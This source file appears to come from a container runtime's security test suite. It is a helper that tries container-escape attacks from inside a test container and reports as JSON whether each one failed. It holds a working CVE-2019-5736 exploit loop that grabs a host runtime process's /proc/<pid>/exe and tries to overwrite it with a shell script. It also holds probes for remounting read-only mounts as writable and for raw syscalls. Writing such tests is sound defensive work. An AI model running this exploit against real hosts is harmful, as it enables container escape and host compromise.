// brig-attack: a static helper that runs inside test containers and tries the attacks of
// ../shared/design/SECURITY.md from there. It reports what happened as JSON on stdout (one
// array, one object per operation); the tests in attacks_test.cpp assert that every attack
// failed and check the host afterwards.
//
//   brig-attack OP ARGS [-- OP ARGS]...
//     exe-attack DIR MS       CVE-2019-5736: for MS milliseconds, grab /proc/<pid>/exe of
//                             every process whose executable is not from this container
//                             (a runtime process that entered it) and keep trying to open
//                             it for writing, also after that process has gone. Writes
//                             DIR/ready when it starts, DIR/grabbed once it holds one, and
//                             its result to DIR/result when done (at MS, or once DIR/stop
//                             exists)
//     fds                     open descriptors with their targets, the cwd, and whether
//                             climbing ".." from the cwd stays at the root
//     status                  ids and the Cap* lines of /proc/self/status
//     read PATH               up to 4 KiB of PATH
//     write PATH TEXT         O_WRONLY|O_CREAT|O_TRUNC, then write TEXT
//     mkdir PATH              mkdir 0755
//     symlink TARGET PATH     symlink(TARGET, PATH)
//     remount-rw PATH         try to make the mount at PATH writable again
//     stat PATH               lstat: type, mode, owner, device numbers
//     syscall NR              raw syscall NR with zero arguments
//     int80 NR                the 32-bit x86 syscall NR through int 0x80, in a child
//
// Plain libc only; linked statically so it runs in any rootfs.
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <string>
#include <string_view>
#include <vector>

namespace {

std::string quote(std::string_view s) {
    std::string out = "\"";
    for (unsigned char c : s) {
        if (c == '"' || c == '\\') {
            out += '\\';
            out += static_cast<char>(c);
        } else if (c < 0x20 || c >= 0x7f) {
            char buf[8];
            std::snprintf(buf, sizeof buf, "\\u%04x", c);
            out += buf;
        } else {
            out += static_cast<char>(c);
        }
    }
    return out + "\"";
}

// A JSON object built field by field.
class Obj {
public:
    Obj& str(const char* k, std::string_view v) { return raw(k, quote(v)); }
    Obj& num(const char* k, long long v) { return raw(k, std::to_string(v)); }
    Obj& boolean(const char* k, bool v) { return raw(k, v ? "true" : "false"); }
    Obj& raw(const char* k, const std::string& v) {
        if (!body_.empty()) body_ += ',';
        body_ += quote(k);
        body_ += ':';
        body_ += v;
        return *this;
    }
    std::string done() const { return "{" + body_ + "}"; }

private:
    std::string body_;
};

const char* errname(int e) {
    switch (e) {
        case 0: return "OK";
        case EPERM: return "EPERM";
        case ENOENT: return "ENOENT";
        case EACCES: return "EACCES";
        case EROFS: return "EROFS";
        case ETXTBSY: return "ETXTBSY";
        case EINVAL: return "EINVAL";
        case ENOSYS: return "ENOSYS";
        case ELOOP: return "ELOOP";
        case EEXIST: return "EEXIST";
        case EBADF: return "EBADF";
        case ESRCH: return "ESRCH";
        case ENOTDIR: return "ENOTDIR";
        case EISDIR: return "EISDIR";
        default: return "other";
    }
}

// Append one element to a JSON list or object under construction ("[" or "{" so far).
void add_item(std::string& list, const std::string& item) {
    if (list.size() > 1) list += ',';
    list += item;
}

std::string result(int rc_errno) {
    return Obj().boolean("ok", rc_errno == 0).str("errno", errname(rc_errno)).num("errnum", rc_errno).done();
}

std::string readlink_str(const std::string& path) {
    char buf[4096];
    ssize_t n = ::readlink(path.c_str(), buf, sizeof buf - 1);
    return n < 0 ? std::string() : std::string(buf, static_cast<size_t>(n));
}

long long now_ms() {
    timespec ts;
    ::clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1000LL + ts.tv_nsec / 1000000;
}

void write_file(const std::string& path, const std::string& text) {
    std::string tmp = path + ".tmp";
    int fd = ::open(tmp.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0) return;
    (void)!::write(fd, text.data(), text.size());
    ::close(fd);
    ::rename(tmp.c_str(), path.c_str());
}

// ---- CVE-2019-5736 ------------------------------------------------------------------

struct Grabbed {
    int fd;
    pid_t pid;
    std::string target;
};

std::string exe_attack(const std::string& dir, long ms) {
    struct stat self_st {}, busybox_st {};
    ::stat("/proc/self/exe", &self_st);
    ::stat("/bin/busybox", &busybox_st);
    auto ours = [&](const struct stat& st) {
        return (st.st_dev == self_st.st_dev && st.st_ino == self_st.st_ino) ||
               (st.st_dev == busybox_st.st_dev && st.st_ino == busybox_st.st_ino);
    };
    std::vector<Grabbed> grabbed;
    std::map<std::string, int> errors;  // errno name -> count, of every write attempt
    std::map<std::string, int> exe_errors;  // opening /proc/<pid>/exe, other than EACCES/ENOENT
    long scans = 0, denied_exe = 0, write_opened = 0;
    pid_t me = ::getpid();
    auto try_write = [&](Grabbed& g) {
        int w = ::open(("/proc/self/fd/" + std::to_string(g.fd)).c_str(), O_WRONLY | O_CLOEXEC);
        if (w < 0) {
            ++errors[errname(errno)];
            return;
        }
        // The attack proper: the runtime binary is now ours to change.
        ++write_opened;
        (void)!::pwrite(w, "#!/bin/sh\necho pwned\n", 21, 0);
        ::close(w);
    };
    write_file(dir + "/ready", std::to_string(me) + "\n");
    long long end = now_ms() + ms, next_retry = 0;
    while (now_ms() < end) {
        ++scans;
        DIR* d = ::opendir("/proc");
        if (!d) break;
        while (dirent* e = ::readdir(d)) {
            pid_t pid = static_cast<pid_t>(std::atoi(e->d_name));
            if (pid <= 0 || pid == me) continue;
            std::string exe = "/proc/";
            exe += e->d_name;
            exe += "/exe";
            int fd = ::open(exe.c_str(), O_PATH | O_CLOEXEC);
            if (fd < 0 && (errno == EACCES || errno == EPERM)) {
                // Non-dumpable: a runtime process inside. Watch it closely until it has
                // exec'd (then its exe can be opened) or gone: whatever it execs runs only briefly.
                ++denied_exe;
                long long until = now_ms() + 200;
                while (fd < 0 && (errno == EACCES || errno == EPERM) && now_ms() < until)
                    fd = ::open(exe.c_str(), O_PATH | O_CLOEXEC);
            }
            if (fd < 0) {
                if (errno != ENOENT && errno != EACCES && errno != EPERM) ++exe_errors[errname(errno)];
                continue;
            }
            struct stat st {};
            bool known = ::fstat(fd, &st) < 0 || ours(st);
            for (auto& g : grabbed) {
                struct stat gs {};
                if (::fstat(g.fd, &gs) == 0 && gs.st_dev == st.st_dev && gs.st_ino == st.st_ino && g.pid == pid)
                    known = true;
            }
            if (known || grabbed.size() >= 16) {
                ::close(fd);
                continue;
            }
            grabbed.push_back({fd, pid, readlink_str(exe)});
            if (grabbed.size() == 1) write_file(dir + "/grabbed", grabbed.back().target + "\n");
            try_write(grabbed.back());
        }
        ::closedir(d);
        // Keep trying every 20 ms: the file stays busy (ETXTBSY) only while some process
        // runs it, and the attacker has all the time in the world.
        if (now_ms() >= next_retry) {
            for (auto& g : grabbed) try_write(g);
            next_retry = now_ms() + 20;
            if (::access((dir + "/stop").c_str(), F_OK) == 0) break;  // the test is done
        }
    }
    for (auto& g : grabbed) try_write(g);
    std::string targets = "[", errs = "{";
    for (auto& g : grabbed) add_item(targets, quote(g.target));
    for (auto& [k, v] : errors) add_item(errs, quote(k) + ":" + std::to_string(v));
    std::string exe_errs = "{";
    for (auto& [k, v] : exe_errors) add_item(exe_errs, quote(k) + ":" + std::to_string(v));
    std::string out = Obj()
                          .num("scans", scans)
                          .num("grabbed", static_cast<long long>(grabbed.size()))
                          .raw("targets", targets + "]")
                          .num("denied_exe", denied_exe)
                          .raw("exe_open_errors", exe_errs + "}")
                          .num("write_opened", write_opened)
                          .raw("write_errors", errs + "}")
                          .done();
    write_file(dir + "/result", out + "\n");
    return out;
}

// ---- the others ---------------------------------------------------------------------

std::string op_fds() {
    std::string list = "[";
    if (DIR* d = ::opendir("/proc/self/fd")) {
        int own = ::dirfd(d);
        while (dirent* e = ::readdir(d)) {
            if (e->d_name[0] == '.') continue;
            int fd = std::atoi(e->d_name);
            if (fd == own) continue;
            std::string link = "/proc/self/fd/";
            link += e->d_name;
            add_item(list, Obj().num("fd", fd).str("target", readlink_str(link)).done());
        }
        ::closedir(d);
    }
    std::string cwd = readlink_str("/proc/self/cwd");
    // A cwd outside the root would climb to the host's /; inside, ".." stops at our root.
    for (int i = 0; i < 64; ++i)
        if (::chdir("..") < 0) break;
    struct stat dot {}, root {};
    ::stat(".", &dot);
    ::stat("/", &root);
    return Obj()
        .raw("fds", list + "]")
        .str("cwd", cwd)
        .boolean("dotdot_stays_in_root", dot.st_dev == root.st_dev && dot.st_ino == root.st_ino)
        .done();
}

std::string op_status() {
    FILE* f = std::fopen("/proc/self/status", "r");
    Obj o;
    o.num("uid", ::getuid()).num("euid", ::geteuid()).num("gid", ::getgid()).num("egid", ::getegid());
    if (!f) return o.done();
    char line[512];
    while (std::fgets(line, sizeof line, f)) {
        std::string_view l = line;
        for (const char* k : {"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs"}) {
            std::string key = std::string(k) + ":";
            if (!l.starts_with(key)) continue;
            std::string v(l.substr(key.size()));
            v.erase(0, v.find_first_not_of(" \t"));
            v.erase(v.find_last_not_of(" \t\n") + 1);
            o.str(k, v);
        }
    }
    std::fclose(f);
    return o.done();
}

std::string op_read(const std::string& path) {
    int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) return result(errno);
    char buf[4096];
    ssize_t n = ::read(fd, buf, sizeof buf);
    int e = errno;
    ::close(fd);
    if (n < 0) return result(e);
    return Obj().boolean("ok", true).str("data", std::string_view(buf, static_cast<size_t>(n))).done();
}

std::string op_write(const std::string& path, const std::string& text) {
    int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0) return result(errno);
    int e = ::write(fd, text.data(), text.size()) < 0 ? errno : 0;
    ::close(fd);
    return result(e);
}

std::string op_stat(const std::string& path) {
    struct stat st {};
    if (::lstat(path.c_str(), &st) < 0) return result(errno);
    const char* type = S_ISREG(st.st_mode)   ? "reg"
                       : S_ISDIR(st.st_mode) ? "dir"
                       : S_ISLNK(st.st_mode) ? "link"
                       : S_ISCHR(st.st_mode) ? "chr"
                       : S_ISBLK(st.st_mode) ? "blk"
                                             : "other";
    return Obj()
        .boolean("ok", true)
        .str("type", type)
        .num("mode", st.st_mode & 07777)
        .num("uid", st.st_uid)
        .num("major", major(st.st_rdev))
        .num("minor", minor(st.st_rdev))
        .num("size", st.st_size)
        .str("link", S_ISLNK(st.st_mode) ? readlink_str(path) : "")
        .done();
}

std::string op_int80(long nr) {
#if defined(__x86_64__)
    int p[2];
    if (::pipe(p) < 0) return result(errno);
    pid_t pid = ::fork();
    if (pid == 0) {
        long ret;
        asm volatile("int $0x80" : "=a"(ret) : "a"(nr) : "memory", "rcx", "r11");
        std::string s = std::to_string(ret);
        (void)!::write(p[1], s.data(), s.size());
        ::_exit(0);
    }
    ::close(p[1]);
    char buf[64] = {};
    ssize_t n = ::read(p[0], buf, sizeof buf - 1);
    ::close(p[0]);
    int st = 0;
    ::waitpid(pid, &st, 0);
    Obj o;
    o.boolean("ok", true).num("signal", WIFSIGNALED(st) ? WTERMSIG(st) : 0);
    if (n > 0) o.num("ret", std::atol(buf));
    o.num("pid", pid);
    return o.done();
#else
    (void)nr;
    return Obj().boolean("ok", false).str("errno", "unsupported").done();
#endif
}

std::string run_op(const std::vector<std::string>& op) {
    const std::string& name = op[0];
    auto arg = [&](size_t i) -> const std::string& {
        static const std::string empty;
        return i < op.size() ? op[i] : empty;
    };
    if (name == "exe-attack") return exe_attack(arg(1), std::atol(arg(2).c_str()));
    if (name == "fds") return op_fds();
    if (name == "status") return op_status();
    if (name == "read") return op_read(arg(1));
    if (name == "write") return op_write(arg(1), arg(2));
    if (name == "mkdir") return result(::mkdir(arg(1).c_str(), 0755) < 0 ? errno : 0);
    if (name == "symlink") return result(::symlink(arg(1).c_str(), arg(2).c_str()) < 0 ? errno : 0);
    if (name == "remount-rw")
        return result(::mount(nullptr, arg(1).c_str(), nullptr, MS_REMOUNT | MS_BIND, nullptr) < 0 ? errno : 0);
    if (name == "stat") return op_stat(arg(1));
    if (name == "syscall") {
        errno = 0;
        long r = ::syscall(std::atol(arg(1).c_str()), 0, 0, 0, 0, 0, 0);
        return Obj().num("ret", r).str("errno", errname(r < 0 ? errno : 0)).num("errnum", r < 0 ? errno : 0).done();
    }
    if (name == "int80") return op_int80(std::atol(arg(1).c_str()));
    std::fprintf(stderr, "brig-attack: bad operation: %s\n", name.c_str());
    std::exit(2);
}

}  // namespace

int main(int argc, char** argv) {
    std::vector<std::vector<std::string>> ops(1);
    for (int i = 1; i < argc; ++i) {
        if (std::string_view(argv[i]) == "--") ops.emplace_back();
        else ops.back().push_back(argv[i]);
    }
    std::string out = "[";
    for (const auto& op : ops) {
        if (op.empty()) {
            std::fprintf(stderr, "usage: brig-attack OP ARGS [-- OP ARGS]...\n");
            return 2;
        }
        add_item(out, run_op(op));
    }
    std::puts((out + "]").c_str());
    return 0;
}
